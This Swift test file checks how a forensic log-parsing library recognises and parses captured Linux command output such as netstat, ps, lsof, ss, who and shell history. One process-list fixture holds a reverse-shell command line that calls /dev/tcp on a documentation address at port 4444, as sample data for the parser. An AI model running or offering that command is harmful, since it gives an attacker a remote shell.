import Bytes
import Evidence
import Foundation
import Testing

@testable import LogParse

/// Captures without the headers and words that others are known by.
@Suite struct BareCaptureTests {
  private func name(_ text: String, _ path: String = "x.txt") -> String? {
    EventDump.recognize(Array(text.utf8), path: path)?.name
  }

  private static let tcp =
    "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"

  @Test func socketsOfTheKernelsTableAreNetstats() throws {
    let kernel = try EventDump(
      Self.tcp + "   0: 0500010A:A3C2 427100CB:1151 01 00000024:00000007 00:00000000 00000000   960        0 23344 1\n",
      path: "proc/net/tcp")
    let netstat = try EventDump(
      "Proto Recv-Q Send-Q Local Address           Foreign Address         State       User       Inode\n"
        + "tcp        7     36 10.1.0.5:41922          203.0.113.66:4433       ESTABLISHED 960        23344\n",
      path: "netstat.txt")
    #expect(kernel.format == "capture.proc_net" && netstat.format == "capture.netstat")
    let (one, other) = (try #require(kernel.events.first), try #require(netstat.events.first))
    #expect(one.message == other.message && one.entities == other.entities && one.dataType == other.dataType)
    #expect(Set(one.attributes) == Set(other.attributes))
  }

  @Test func rowsThatAreNoSockets() throws {
    for row in [
      "   0: 0500010A:A3C2 427100CB:1151 01", "   0: 0500010A:A3C2 427100CB0:1151 01 0:0 0:0 0 0 0 1 1",
      "   0: 0500010A:A3C2 00000000000000000000000001000000:1151 01 0:0 0:0 0 0 0 1 1",
      "   0: 0500010A:A3C2 427100CB:1151 FFFFFFFFFFFFFFFFFF 0:0 0:0 0 0 0 1 1",
      "0000000000000000: 00000002 00000000 00010000 0001 01 12003 /run/x",
    ] {
      let dump = try EventDump(Self.tcp + row + "\n", path: "proc/net/tcp")
      #expect(dump.events.isEmpty && dump.coverages.last?.state == .skipped, "\(row)")
    }
    let odd = try EventDump(
      Self.tcp + "   0: 0500010A:A3C2 427100CB:1151 FF FFFFFFFFFFFFFFFF:0 0:0 0 99999999999999999999 0 -1 1\n",
      path: "tcp")
    #expect(odd.events.count == 1 && odd.events.first?.text("state") == nil)
    #expect(odd.events.first?.integer("send_queue") == nil && odd.events.first?.integer("uid") == nil)
    #expect(name("  sl  local_address rem_address\n") == nil)
    #expect(name("Num       RefCount Protocol\n") == nil)
  }

  @Test func wWithoutItsHeader() throws {
    let row = "ops      pts/2    10.1.0.9         05:21    5:54   0.57s  0.29s sudo -i\n"
    let bare = try EventDump(row, path: "x.txt")
    let full = try EventDump(
      "USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\n" + row, path: "x.txt")
    #expect(bare.format == "capture.w" && full.format == "capture.w")
    #expect(bare.events.map(\.attributes) == full.events.map(\.attributes))
    #expect(name("ops pts/2 10.1.0.9 05:21 5:54 0.57s\n") == nil)
    #expect(name("ops pts/2 10.1.0.9 noon 5:54 0.57s 0.29s sudo\n") == nil)
    #expect(name("a b 10.1.0.9 05:21 5:54 0.57s 0.29s sudo\n") == nil)
  }

  @Test func namesOfWhoCountUp() throws {
    #expect(name("ops root\n# users=2\n") == "capture.who")
    #expect(name("ops root\n# users=3\n") == nil)
    #expect(
      try EventDump("ops root\n# users=2", path: "x.txt").events.compactMap { $0.text("user") } == ["ops", "root"])
    #expect(name("NAME     LINE         TIME             COMMENT\n") == "capture.who")
    #expect(name("NAME     LINE         TIME             COMMENT\nprose about it\n") == nil)
  }

  @Test func aNumberIsAClockWhereItsNameSaysSo() throws {
    #expect(name("1795584329\n", "date_+%s.txt") == "capture.date")
    #expect(name("1795584329\n", "pid.txt") == nil)
    #expect(name("179558432\n", "date.txt") == nil)
    #expect(name("1795584329.x\n", "date.txt") == nil)
    #expect(name("20261125T052529Z\n") == "capture.date")
    #expect(name("20261325T052529Z\n") == nil)
    // Which zone the host is in, seconds do not tell.
    #expect(try EventDump("1795584329\n", path: "date.txt").events.first?["zone_minutes"] == nil)
  }

  @Test func theDatesOfAHistoryTellTheirOrder() throws {
    func times(_ text: String, collected: Timestamp? = EventDump.collected) throws -> [String?] {
      try EventDump(text, path: "x.txt", collected: collected).events.map { $0.time?.description }
    }
    #expect(
      try times("1  01/11/26 09:00:00 a\n2  25/11/26 05:21:05 b\n") == ["2026-11-01T09:00:00Z", "2026-11-25T05:21:05Z"])
    #expect(
      try times("1  11/01/26 09:00:00 a\n2  11/25/26 05:21:05 b\n") == ["2026-11-01T09:00:00Z", "2026-11-25T05:21:05Z"])
    // Neither is beyond the capture, but only days in front go up.
    #expect(
      try times("1  09/02/26 09:00:00 a\n2  01/03/26 05:21:05 b\n") == ["2026-02-09T09:00:00Z", "2026-03-01T05:21:05Z"])
    let open = try EventDump("1  01/02/26 09:00:00 a\n2  01/02/26 09:00:01 b\n", path: "x.txt")
    #expect(open.events.map { $0.text("date_order") } == ["assumed", "assumed"])
    #expect(open.events.first?.time?.description == "2026-02-01T09:00:00Z")
    // An offset belongs to the time that stands before it.
    let stated = try EventDump("1  2026-11-25 05:21:05 +0900 ls -l\n", path: "history.txt")
    #expect(stated.events.first?.text("command") == "ls -l")
    #expect(stated.events.first?.time?.description == "2026-11-24T20:21:05Z")
    // What is no date remains of the command.
    let none = try EventDump("1  31/31/26 09:00:00 a\n2  1.2.3.4 09:00 b\n", path: "history.txt")
    #expect(none.events.map { $0.text("command") } == ["31/31/26 09:00:00 a", "1.2.3.4 09:00 b"])
  }

  private static let header =
    "Proto Recv-Q Send-Q Local Address           Foreign Address         State       PID/Program name    \n"

  @Test(arguments: [
    ("Aktive Internetverbindungen (Server und stehende Verbindungen)", "VERBUNDEN  "),
    ("Conexiones activas de Internet (servidores y establecidos)", "ESTABLECIDO"),
    ("稼働中のインターネット接続 (サーバと確立)", "ESTABLISHED"),
    ("Aktiivsed internetiühendused (serverid ja ühendatud)", "ÜHENDATUD  "),
  ])
  func netstatInOtherLanguages(_ title: String, _ state: String) throws {
    let dump = try EventDump(
      title + "\n" + Self.header
        + "tcp        0      0 10.0.2.15:51270         203.0.113.66:4444       \(state) 465/bash            \n",
      path: "netstat.txt")
    #expect(dump.coverages.map(\.state) == [.parsed] && dump.events.first?.text("state") == "ESTABLISHED")
    #expect(dump.events.first?.integer("pid") == 465)
  }

  @Test func columnsInAnotherLanguage() {
    let row = "tcp        0      0 10.0.2.15:51270         203.0.113.66:4444       ESTABLISHED 465/bash\n"
    #expect(name("Proto 받음-Q 보냄-Q 로컬 주소 외부 주소 상태 PID/프로그램 이름\n" + row) == "capture.netstat")
    #expect(name("Proto and ports that we use\nhttp 80\n") != "capture.netstat")
  }

  /// Without `-W` netstat cuts addresses of IPv6: what is left may be another machine's.
  @Test func addressesThatAreCut() throws {
    func ends(_ local: String, _ remote: String) throws -> [String?] {
      let row = "tcp6       0      0 \(local) \(remote) ESTABLISHED 465/bash\n"
      let event = try EventDump(Self.header + row, path: "netstat.txt").events.first
      return ["local_address", "local_host", "remote_address", "remote_host"].map { event?.text($0) }
    }
    #expect(
      try ends("fe80::45d:31ff:fe9a:546", "2001:db8::2:41022") == [nil, "fe80::45d:31ff:fe9a", "2001:db8::2", nil])
    // Another address of the row is wider than any that was cut.
    #expect(
      try ends("fe80::45d:31ff:fe9a:546", "2001:db8:85a3::8a2e:370:7334:41022")
        == ["fe80::45d:31ff:fe9a", nil, "2001:db8:85a3::8a2e:370:7334", nil])
    #expect(try ends("fe80::45d:31ff:fea:546", "10.0.0.1:80") == ["fe80::45d:31ff:fea", nil, "10.0.0.1", nil])
  }

  @Test func routesOfTheSixthVersion() throws {
    let dump = try EventDump(
      "Kernel IPv6 routing table\nDestination                    Next Hop                   Flag Met Ref Use If\n"
        + "fe80::/64                      [::]                       U    256 1     0 ens5\n"
        + "[::]/0                         fe80::1                    UG   1024 3    0 ens5\n", path: "netstat_-rn.txt")
    #expect(dump.coverages.map(\.state) == [.parsed])
    #expect(dump.events.map { $0.text("gateway") } == ["[::]", "fe80::1"])
    #expect(dump.events.last?.message == "Packets to [::]/0 leave by ens5 through fe80::1.")
  }

  @Test func namesWithBlanksInFrontOfNumbers() throws {
    let dump = try EventDump(
      "COMMAND           PID COMMAND\nsystemd             1 /sbin/init\nevil name x     28112 python3 -\n",
      path: "ps.txt")
    #expect(dump.coverages.map(\.state) == [.parsed])
    #expect(dump.events.map { $0.text("command") } == ["systemd", "evil name x"])
    #expect(dump.events.map { $0.integer("pid") } == [1, 28112])
  }

  @Test func numbersOfUsersAreToldApart() throws {
    let dump = try EventDump("  PID   UID  EUID COMMAND\n  465   998     0 bash\n", path: "ps.txt")
    #expect(dump.events.first?.integer("uid") == 998 && dump.events.first?.integer("effective_uid") == 0)
  }

  /// Processes without their header begin like a history.
  @Test func processesAreNoHistory() {
    let rows = "    1     0 root     /sbin/init\n    2     0 root     [kthreadd]\n    3     2 root     [rcu_gp]\n"
    #expect(name(rows) != "capture.history" && name(rows, "ps.txt") != "capture.history")
    #expect(
      name("    1  1795584053 ls\n    2  1795584054 id\n    3  1795584055 w\n", "history.txt") == "capture.history")
    #expect(name("    1  ls -la\n    2  id\n    3  ps aux\n") == "capture.history")
  }

  @Test func lastLoginsInGerman() throws {
    let dump = try EventDump(
      "Benutzername     Port     Von                                        Letzter\n"
        + "root                                                                **Noch nie angemeldet**\n"
        + "admin            pts/2    10.0.1.50                                  Mi Nov 25 05:21:40 +0000 2026\n",
      path: "lastlog.txt")
    #expect(dump.format == "capture.lastlog" && dump.coverages.map(\.state) == [.parsed])
    #expect(dump.events.map { $0.text("user") } == ["admin"])
    #expect(dump.events.first?.text("remote_address") == "10.0.1.50" && dump.events.first?.text("tty") == "pts/2")
    #expect(dump.events.first?.time?.description == "2026-11-25T05:21:40Z")
  }

  @Test func routesThatLeadNowhere() throws {
    let dump = try EventDump(
      "default via 10.0.2.1 dev ens5 proto dhcp metric 100\nblackhole 203.0.113.0/24\nunreachable 192.0.2.7\n",
      path: "ip_route.txt")
    #expect(dump.format == "capture.route" && dump.coverages.map(\.state) == [.parsed])
    #expect(dump.events.map { $0.text("destination") } == ["default", "203.0.113.0/24", "192.0.2.7"])
    #expect(name("blackhole sun\nthrow away\n") != "capture.route")
  }

  @Test func ipInJSON() throws {
    let addresses = try EventDump(
      #"[{"ifindex":2,"ifname":"ens5","flags":["BROADCAST","PROMISC","UP"],"mtu":9001,"link_type":"ether","#
        + #""address":"06:5d:31:9a:2c:e4","addr_info":[{"family":"inet","local":"10.0.2.15","prefixlen":24}]},{}]"#,
      path: "ip_-j_addr.txt")
    #expect(addresses.format == "capture.ip_json")
    #expect(addresses.events.map(\.message) == ["Interface ens5 has 10.0.2.15 and is promiscuous."])
    let routes = try EventDump(
      #"[{"dst":"default","gateway":"10.0.2.1","dev":"ens5","protocol":"dhcp","flags":[]}]"#, path: "x.json")
    #expect(routes.events.map(\.message) == ["Packets to default leave by ens5 through 10.0.2.1."])
    let neighbours = try EventDump(
      #"[{"dst":"10.0.2.1","dev":"ens5","lladdr":"06:11:22:33:44:55","state":["REACHABLE"]}]"#, path: "x.json")
    #expect(neighbours.events.map(\.message) == ["10.0.2.1 is known as 06:11:22:33:44:55 on ens5."])
    for text in [#"[{"dev":"ens5"}]"#, #"[{"ifname":"ens5"}]"#, "[]", #"{"dst":"x","dev":"y"}"#] {
      #expect(name(text) != "capture.ip_json", "\(text)")
    }
  }

  @Test func processesWithoutHeadings() throws {
    let short = try EventDump(
      "    1 /sbin/init\n    2 [kthreadd]\n  465 bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", path: "x.txt")
    #expect(short.format == "capture.ps")
    #expect(short.events.map { $0.integer("pid") } == [1, 2, 465])
    #expect(short.events.last?.text("command_line") == "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
    let long = try EventDump(
      "    1     0    18:23:29 root     /sbin/init\n    2     0    18:23:29 root     [kthreadd]\n"
        + "  465     1       00:10 nobody   sleep 7200\n", path: "x.txt")
    #expect(long.events.map { $0.text("user") } == ["root", "root", "nobody"])
    #expect(long.events.map { $0.integer("ppid") } == [0, 0, 1])
    // Whether it is the time that it runs or took, nobody says.
    #expect(long.events.allSatisfy { $0.time == nil })
    let owned = try EventDump("    1 root     /sbin/init\n    2 root     [kthreadd]\n", path: "x.txt")
    #expect(owned.format == "capture.ps" && owned.events.map { $0.text("user") } == ["root", "root"])
    let started = try EventDump(
      "Wed Nov 25 05:10:12 2026     1 root     /sbin/init\nWed Nov 25 05:10:12 2026     2 root     [kthreadd]\n",
      path: "x.txt")
    #expect(started.format == "capture.ps" && started.events.first?.time?.description == "2026-11-25T05:10:12Z")
    let named = try EventDump("1234 java -jar x.jar\n1300 sh -c id\n", path: "pgrep_-a_java.txt")
    #expect(named.events.map { $0.text("command_line") } == ["java -jar x.jar", "sh -c id"])
  }

  @Test(arguments: [
    "    1 /sbin/init\n    2 apples\n", "1 one\n2 two\n3 three\n", "  500  2026-11-25 05:20:12 ls\n",
    "    1\n    2\n", "    1  /sbin/init\n   99  /bin/sh\n", "2 [kthreadd]\nfree text here\n",
  ])
  func numbersThatAreNoProcesses(_ text: String) { #expect(name(text) != "capture.ps") }

  @Test func aProgramThatWasDeleted() throws {
    let dump = try EventDump(
      "  PID EXE                         COMMAND\n26650 /tmp/gone (deleted)         /tmp/gone 7200\n"
        + "26651 /tmp/my prog                /tmp/my prog 1\n26957 /usr/bin/sleep              sleep 7200\n",
      path: "ps_-eo_pid,exe,args.txt")
    #expect(dump.events.map { $0.text("executable") } == ["/tmp/gone", "/tmp/my prog", "/usr/bin/sleep"])
    #expect(
      dump.events.map { $0.text("command_line") } == ["/tmp/gone 7200", "/tmp/my prog 1", "sleep 7200"])
    #expect(dump.events.map { $0.attributes.contains { $0.name == "is_deleted" } } == [true, false, false])
  }

  @Test func devicesBehindBracketsAndPathsWithBlanks() throws {
    let dump = try EventDump(
      "Netid State  Recv-Q Send-Q Local Address:Port Peer Address:PortProcess\n"
        + "udp   UNCONN 0 0 [fe80::45d:31ff:fe9a:2ce4]%ens5:5353 [::]:*  users:((\"x\",pid=9,fd=9))\n"
        + "u_str LISTEN 0 5 /tmp/.X11 unix 4031143 * 0 users:((\"x\",pid=9,fd=23))\n"
        + "u_str LISTEN 0 5 @abstract name 4031142 * 0 users:((\"x\",pid=9,fd=22))\n"
        + "u_str ESTAB 0 0 * 4031146 * 4031145 users:((\"x\",pid=9,fd=26))\n", path: "ss.txt")
    #expect(dump.events.first?.text("local_address") == "fe80::45d:31ff:fe9a:2ce4")
    #expect(dump.events.first?.text("local_device") == "ens5" && dump.events.first?.text("family") == "inet6")
    #expect(dump.events.dropFirst().map { $0.text("path") } == ["/tmp/.X11 unix", "@abstract name", nil])
    #expect(dump.events.dropFirst().map { $0.integer("inode") } == [4_031_143, 4_031_142, 4_031_146])
  }

  @Test func fieldsOfLsofWithoutDescriptors() throws {
    let text =
      "p465\ncjava\nLtomcat\ntDIR\nn/\ntIPv4\nPTCP\nn10.1.0.5:51234->203.0.113.9:4444\nTST=ESTABLISHED\nTQR=0\n"
      + "p503\ncbash\nLroot\ntREG\nn/tmp/.x\n"
    for text in [text, "\n" + text, text.replacing("\n", with: "\r\n")] {
      let dump = try EventDump(text, path: "lsof_-F.txt")
      #expect(dump.format == "capture.lsof_fields")
      #expect(dump.events.map { $0.integer("pid") } == [465, 465, 503])
      #expect(dump.events.map { $0.text("command") } == ["java", "java", "bash"])
      #expect(dump.events[1].text("remote_address") == "203.0.113.9" && dump.events[1].text("state") == "ESTABLISHED")
      #expect(dump.events[2].entities.contains { $0.text == "file:/tmp/.x" })
    }
    #expect(name("p1\nnotes of a day\ntext\n") == nil)
    #expect(name("p1\nn/tmp\n") == nil)
    let queues = try EventDump(
      "COMMAND PID USER   FD   TYPE  DEVICE SIZE/OFF NODE NAME\n"
        + "java    465 root    3u  IPv4 4030687      0t0  TCP *:8080 (LISTEN QR=0 QS=0)\n"
        + "java    465 root    7u  IPv4 4031119      0t0  UDP *:53 (QR=0 QS=0)\n", path: "lsof.txt")
    #expect(queues.events.map { $0.text("state") } == ["LISTEN", nil])
  }

  @Test func lsfdIsNoListOfProcesses() throws {
    let dump = try EventDump(
      "COMMAND            PID  USER  ASSOC MODE TYPE       SOURCE MNTID      INODE NAME\n"
        + "my prog          26647  root    cwd  ---  DIR          vda     0          2 /tmp/a dir\n", path: "lsfd.txt")
    #expect(dump.events.map(\.dataType) == ["linux:capture:open_file"])
    #expect(dump.events.first?.text("command") == "my prog" && dump.events.first?.integer("pid") == 26647)
    #expect(dump.events.first?.entities.contains { $0.text == "file:/tmp/a dir" } ?? false)
    let socket = try EventDump(
      "COMMAND            PID  USER  ASSOC MODE TYPE       SOURCE MNTID      INODE NAME\n"
        + "sh  912 root 3 rw- SOCK sockfs 0 44012 TCP state=established laddr=10.0.2.15:51234 raddr=203.0.113.9:4444\n",
      path: "lsfd.txt")
    #expect(socket.events.first?.entities.contains { $0.text == "address:203.0.113.9" } ?? false)
    #expect(socket.events.first?.text("state") == "ESTABLISHED" && socket.events.first?.integer("inode") == 44012)
    let bare = try EventDump("p465\nPTCP\nn[2001:db8::1]:5000->[2001:db8::9]:4444\n", path: "lsof_-F_pPn.txt")
    #expect(bare.events.first?.text("family") == "inet6" && bare.events.first?.text("protocol") == "tcp")
  }

  @Test func digestsOfAnyLength() throws {
    let long = String(repeating: "ab", count: 64)
    let dump = try EventDump("\(long)  /etc/passwd\n", path: "sha512sum.txt")
    #expect(dump.events.first?.text("sha512") == long)
    let blake = try EventDump("\(long)  /etc/passwd\nBLAKE2b (/etc/group) = \(long)\n", path: "b2sum_etc.txt")
    #expect(blake.events.allSatisfy { $0.text("blake2b") == long } && blake.events.count == 2)
    #expect(name("\(long)a  /etc/passwd\n") == nil)
  }

  @Test func anAliasHasNoCounts() throws {
    let dump = try EventDump(
      "Kernel Interface table\n"
        + "Iface      MTU    RX-OK RX-ERR RX-DRP RX-OVR    TX-OK TX-ERR TX-DRP TX-OVR Flg\n"
        + "veth0     1500       20      0      0 0            11      0      0      0 BMRU\n"
        + "veth0:1   1500      - no statistics available -                        BMRU\n", path: "netstat_-i.txt")
    #expect(dump.events.map { $0.text("interface") } == ["veth0", "veth0:1"])
    #expect(dump.coverages.allSatisfy { $0.state == .parsed })
  }

  @Test func textWithNULsBehindIt() throws {
    let row = "ops      pts/1        10.1.0.9         Wed Nov 25 05:20:51 2026   still logged in\n"
    let dump = try EventDump(Array(row.utf8) + [UInt8](repeating: 0, count: 512), path: "last.txt")
    #expect(dump.format == "capture.last" && dump.events.count == 1)
    #expect(EventDump.recognize([1, 2, 3] + [UInt8](repeating: 0, count: 512), path: "x.txt") == nil)
    #expect(EventDump.recognize([UInt8](repeating: 0, count: 512), path: "x.txt")?.name != "capture.last")
  }

  @Test func whatDfSaysInFrontOfItsTable() throws {
    let dump = try EventDump(
      "df: /run/user/1000/doc: Operation not permitted\nFilesystem     1K-blocks   Used Available Use% Mounted on\n"
        + "/dev/vda         1776088 709592    957952  43% /\n", path: "df.txt")
    #expect(dump.format == "capture.filesystem" && dump.events.count == 1)
  }

  /// A second column of numbers may be the parents' or the users'.
  @Test func numbersBehindTheProcessesOwn() throws {
    let threads =
      "    1     0 /sbin/init\n    2     0 [kthreadd]\n    3     2 [rcu_gp]\n  960     1 /usr/sbin/sshd -D\n"
    let parents = try EventDump(threads, path: "ps_pid_ppid_args.txt")
    #expect(parents.events.map { $0.integer("ppid") } == [0, 0, 2, 1])
    let users = try EventDump(
      threads.replacingOccurrences(of: "3     2 [", with: "3     0 [").replacingOccurrences(
        of: "960     1", with: "960    33"),
      path: "ps_pid_uid_args.txt")
    #expect(users.events.map { $0.integer("ppid") } == [nil, nil, nil, nil])
    #expect(users.events.last?.message.contains("/usr/sbin/sshd") == true)
    let few = try EventDump("960 33 /usr/sbin/apache2 -k start\n961 33 /usr/sbin/apache2\n", path: "ps_web.txt")
    #expect(few.events.allSatisfy { $0.integer("ppid") == nil })
  }
}
